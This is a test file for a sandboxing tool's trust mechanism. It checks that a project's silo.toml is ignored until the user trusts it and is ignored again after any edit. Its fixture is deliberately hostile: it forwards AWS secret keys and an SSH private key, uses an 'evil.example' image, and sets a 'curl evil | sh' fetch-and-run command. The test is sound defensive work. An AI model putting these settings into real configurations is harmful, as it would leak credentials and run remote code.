import { describe, expect, test } from "bun:test";
import { appendFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { homePaths } from "../../../src/core/paths.ts";
import { loadProject, resolveTool } from "../../../src/config/resolve.ts";
import type { ToolDef } from "../../../src/config/schema.ts";
import { stripWidening, trust, trustState, untrust } from "../../../src/config/trust.ts";
import { tmp } from "../../helpers/silo.ts";

const hostile = `
passEnv = ["AWS_SECRET_ACCESS_KEY"]
passFiles = ["~/.ssh/id_ed25519"]
passSshAgent = true
[env]
FOO = "bar"
[mount]
exclude = [".env"]
writable = [".git/hooks"]
[overrides.python]
image = "evil.example/python:latest"
passSshAgent = true
[overrides.python.network]
hostAccess = true
[overrides.python.network.proxy]
allow = ["*"]
deny = ["pypi.org"]
[[overrides.python.ports]]
host = 2222
guest = 22
[overrides.python.lsp]
command = ["sh", "-c", "curl evil | sh"]
install = ["pip", "install", "evil-server"]
env = { LSP_LOG = "1" }
`;
const def: ToolDef = { name: "python", description: "p", image: "docker.io/library/python", versions: { default: "3.12-slim", available: ["3.12-slim"] }, shims: ["python"] };

describe("trust", () => {
  test("a hostile project silo.toml is ignored until trusted, and again after an edit", async () => {
    const home = homePaths(tmp());
    const proj = tmp();
    const f = join(proj, "silo.toml");
    writeFileSync(f, hostile);

    let p = await loadProject(proj, home);
    expect(p.trust).toBe("untrusted");
    expect(p.ignored.sort()).toEqual(
      [
        "passEnv",
        "passFiles",
        "passSshAgent",
        "mount.writable",
        "overrides.python.image",
        "overrides.python.passSshAgent",
        "overrides.python.network.hostAccess",
        "overrides.python.network.proxy.allow",
        "overrides.python.ports",
        "overrides.python.lsp.command",
        "overrides.python.lsp.install",
      ].sort(),
    );
    let t = resolveTool(p, def);
    expect(t.passEnv).toEqual([]);
    expect(t.passFiles).toEqual([]);
    expect(t.passSshAgent).toBe(false);
    expect(t.network).toMatchObject({ hostAccess: false, allow: [], deny: ["pypi.org"] });
    expect(t.ports).toEqual([]);
    expect(t.image).toBe("docker.io/library/python:3.12-slim");
    // Narrowing and neutral settings still apply.
    expect(t.env.FOO).toBe("bar");
    expect(t.mount.exclude).toEqual([".env"]);
    expect(t.lsp).toEqual({ env: { LSP_LOG: "1" } });

    trust(home, f);
    p = await loadProject(proj, home);
    expect(p.trust).toBe("trusted");
    t = resolveTool(p, def);
    expect(t.passEnv).toEqual(["AWS_SECRET_ACCESS_KEY"]);
    expect(t.network.allow).toEqual(["*"]);
    expect(t.image).toBe("evil.example/python:latest");
    expect(t.lsp?.command).toEqual(["sh", "-c", "curl evil | sh"]);

    appendFileSync(f, "\n# an edit, any edit\n");
    expect(trustState(home, f)).toBe("changed");
    t = resolveTool(await loadProject(proj, home), def);
    expect(t.passEnv).toEqual([]);

    trust(home, f);
    expect(trustState(home, f)).toBe("trusted");
    expect(untrust(home, f)).toBe(true);
    expect(trustState(home, f)).toBe("untrusted");
  });
  test("the global silo.toml is always trusted", async () => {
    const homeDir = tmp();
    writeFileSync(join(homeDir, "silo.toml"), 'passEnv = ["GLOBAL_TOKEN"]\n');
    const t = resolveTool(await loadProject(tmp(), homePaths(homeDir)), def);
    expect(t.passEnv).toEqual(["GLOBAL_TOKEN"]);
  });
  test("empty widening settings are not reported", () => {
    expect(stripWidening({ passEnv: [], passSshAgent: false }).ignored).toEqual([]);
  });
  test("a per-tool passSshAgent forwards the agent to that tool only (trusted)", async () => {
    const home = homePaths(tmp());
    const proj = tmp();
    writeFileSync(join(proj, "silo.toml"), "[overrides.python]\npassSshAgent = true\n");
    trust(home, join(proj, "silo.toml"));
    const p = await loadProject(proj, home);
    expect(resolveTool(p, def).passSshAgent).toBe(true);
    expect(resolveTool(p, { ...def, name: "node" }).passSshAgent).toBe(false);
  });
});
